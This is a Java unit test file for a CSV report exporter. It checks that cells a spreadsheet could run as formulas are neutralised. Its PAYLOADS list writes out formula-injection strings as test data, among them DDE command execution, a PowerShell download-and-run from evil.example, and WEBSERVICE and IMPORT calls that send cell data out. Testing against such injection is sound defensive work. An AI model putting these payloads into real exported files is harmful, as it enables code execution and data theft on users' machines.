package touchstone.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import touchstone.model.Assessment;
import touchstone.model.ClaimAssessment;
import touchstone.model.Id;
import touchstone.model.SpreadsheetCell;
import touchstone.model.Status;

/** A table that says what the records say, and of which a spreadsheet runs nothing. */
class CsvReportTest {

  private static final List<String> STARTERS =
      List.of("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠");

  /** What stands behind the first character of attacks that have been seen. */
  private static final List<String> PAYLOADS =
      List.of(
          "1+1",
          "SUM(1,2)",
          "SUM(1+9)*cmd|' /C calc'!A0",
          "cmd|' /C calc'!A0",
          "cmd|' /C powershell IEX(wget evil.example/x)'!A0",
          "DDE(\"cmd\";\"/C calc\";\"x\")",
          "HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
          "HYPERLINK(\"https://evil.example\")",
          "WEBSERVICE(\"https://evil.example/\"&A1)",
          "IMPORTXML(\"https://evil.example\",\"//a\")",
          "IMPORTDATA(\"https://evil.example\")",
          "IMPORTFEED(\"https://evil.example\")",
          "IMPORTHTML(\"https://evil.example\",\"table\",1)",
          "IMPORTRANGE(\"https://evil.example\",\"A1\")",
          "IMAGE(\"https://evil.example/x.png\")",
          "FILTERXML(A1,\"//x\")",
          "rundll32|'URL.dll,OpenURL calc.exe'!A",
          "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
          "A1:A9",
          "'file:///etc/passwd'#$passwords.A1",
          "2+3+cmd|' /C calc'!A0",
          "-1+1",
          "+\"=1+1\"",
          "SUM(A1)\",\"=2\"",
          "0 OR 1");

  private static final Pattern PREFIXED =
      Pattern.compile("'('*[=+\\-@\\t\\r\\n＝＋－＠].*)", Pattern.DOTALL);

  private static List<CSVRecord> rows(String table) {
    try (CSVParser parser = CSVParser.parse(table, CSVFormat.RFC4180)) {
      return parser.getRecords();
    } catch (IOException notFromAString) {
      throw new IllegalStateException(notFromAString);
    }
  }

  /** Takes back exactly the apostrophe that was put in front. */
  private static String value(String cell) {
    var prefixed = PREFIXED.matcher(cell);
    return prefixed.matches() ? prefixed.group(1) : cell;
  }

  private static boolean couldRun(String cell) {
    return !cell.isEmpty()
        && STARTERS.contains(cell.substring(0, 1))
        && !cell.matches("[-+]?[0-9.]+([eE][-+]?[0-9]+)?");
  }

  @Test
  void hasARowForEachClaimAndAHeading() {
    List<CSVRecord> rows = rows(ReportFixture.render(new CsvReport(), ReportFixture.with("x")));
    assertEquals(5, rows.size());
    assertEquals(CsvColumn.ALL.stream().map(CsvColumn::heading).toList(), rows.get(0).toList());
    assertEquals(
        List.of("one", "two", "three", "four"),
        rows.subList(1, 5).stream().map(row -> row.get(1)).toList());
  }

  @Test
  void hasTheColumnsThatTheDocumentationLists() throws IOException {
    List<String> documented =
        Files.readString(Path.of("src/docs/formats.md"))
            .lines()
            .dropWhile(line -> !line.startsWith("| columns |"))
            .skip(2)
            .takeWhile(line -> line.startsWith("|"))
            .flatMap(row -> Pattern.compile("`(\\w+)`").matcher(row.split("\\|", -1)[1]).results())
            .map(column -> column.group(1))
            .toList();
    assertEquals(CsvColumn.ALL.stream().map(CsvColumn::heading).toList(), documented);
  }

  @Test
  void tellsWhatAnEditorSortsBy() {
    List<CSVRecord> rows = rows(ReportFixture.render(new CsvReport(), ReportFixture.with("x")));
    assertEquals("contradicted", cell(rows, 1, "verdict"));
    assertEquals("contradicted", cell(rows, 1, "reading"));
    assertEquals("manual", cell(rows, 1, "carried_by"));
    assertEquals("0", cell(rows, 1, "exhibits_for"));
    assertEquals("1", cell(rows, 1, "exhibits_against"));
    assertEquals("yes", cell(rows, 1, "one_leg"));
    assertEquals("supported", cell(rows, 1, "signed"));
    assertTrue(cell(rows, 1, "why").startsWith("it was signed as supported, and"));
    assertEquals("against", cell(rows, 2, "lean"));
    assertEquals("at-odds", cell(rows, 2, "reading"));
    assertEquals("", cell(rows, 2, "carried_by"));
    assertEquals("disputed", cell(rows, 3, "verdict"));
    assertEquals("paper; study", cell(rows, 3, "carried_by"));
    assertEquals("unchecked", cell(rows, 4, "verdict"));
    assertEquals("nobody has signed it", cell(rows, 4, "why"));
  }

  private static String cell(List<CSVRecord> rows, int row, String heading) {
    return rows.get(row).get(rows.get(0).toList().indexOf(heading));
  }

  @Test
  void leavesOutWhatIsNotAskedFor() {
    Selection disputed = new Selection(Set.of(), Set.of(Status.DISPUTED), Set.of(), Set.of());
    Assessment assessment = ReportFixture.with("x");
    assertEquals(2, rows(ReportFixture.render(new CsvReport(), assessment, disputed)).size());
    Selection other = new Selection(Set.of(new Id("other")), Set.of(), Set.of(), Set.of());
    assertEquals(1, rows(ReportFixture.render(new CsvReport(), assessment, other)).size());
  }

  @Test
  void quotesEveryCellAndEndsEveryRowAsTheStandardSays() {
    String table = ReportFixture.render(new CsvReport(), ReportFixture.with("x"));
    for (String line : table.split("\r\n", -1)) {
      assertTrue(line.isEmpty() || line.matches("(\"([^\"]|\"\")*\",?)*"), line);
    }
    assertTrue(table.endsWith("\"\r\n"));
    assertFalse(table.replace("\r\n", "").contains("\n"));
  }

  @Test
  void runsNothingInASpreadsheet() {
    int cells = 0;
    for (String starter : STARTERS) {
      for (String payload : PAYLOADS) {
        for (String lead : List.of("", "'", "''", "text ", "text;", "\"", "text\n")) {
          String text = lead + starter + payload;
          String table = ReportFixture.render(new CsvReport(), ReportFixture.with(text));
          for (CSVRecord row : rows(table)) {
            for (String cell : row) {
              assertFalse(couldRun(cell), cell);
              cells++;
            }
          }
          assertEquals(text, value(cell(rows(table), 1, "claim")));
        }
      }
    }
    assertTrue(cells > 100_000, cells + " cells");
  }

  @Test
  void leavesPlainNumbersAlone() {
    Random random = new Random(3);
    List<String> numbers = new ArrayList<>(List.of("-5", "+5", "-0.5", "-.5", "+1e9", "-1.5E-3"));
    for (int i = 0; i < 1_000; i++) {
      numbers.add(Integer.toString(random.nextInt()));
      numbers.add(Double.toString(random.nextGaussian() * Math.pow(10, random.nextInt(40) - 20)));
    }
    for (String number : numbers) {
      assertEquals(number, SpreadsheetCell.of(number));
    }
    for (String none : List.of("-", "+", "-5 %", "+49 30 1", "-1-1", "-5e", "--5", "-٣", "＋5")) {
      assertEquals("'" + none, SpreadsheetCell.of(none));
    }
  }

  @Test
  void givesTheSameValuesWhenItIsReadBack() {
    Random random = new Random(5);
    for (int i = 0; i < 1_000; i++) {
      String text = i < HostileText.SAMPLES.size() ? HostileText.SAMPLES.get(i) : hostile(random);
      Assessment assessment = ReportFixture.with(text);
      List<CSVRecord> rows = rows(ReportFixture.render(new CsvReport(), assessment));
      int row = 1;
      for (ClaimAssessment claim : assessment.claims().values()) {
        assertEquals(
            CsvColumn.ALL.stream().map(column -> column.of(claim)).toList(),
            rows.get(row++).stream().map(CsvReportTest::value).toList(),
            text);
      }
    }
  }

  private static String hostile(Random random) {
    String text = HostileText.random(random);
    return switch (random.nextInt(4)) {
      case 0 -> STARTERS.get(random.nextInt(STARTERS.size())) + text;
      case 1 -> "'".repeat(1 + random.nextInt(3)) + STARTERS.get(random.nextInt(11)) + text;
      case 2 -> "'" + text;
      default -> text;
    };
  }
}
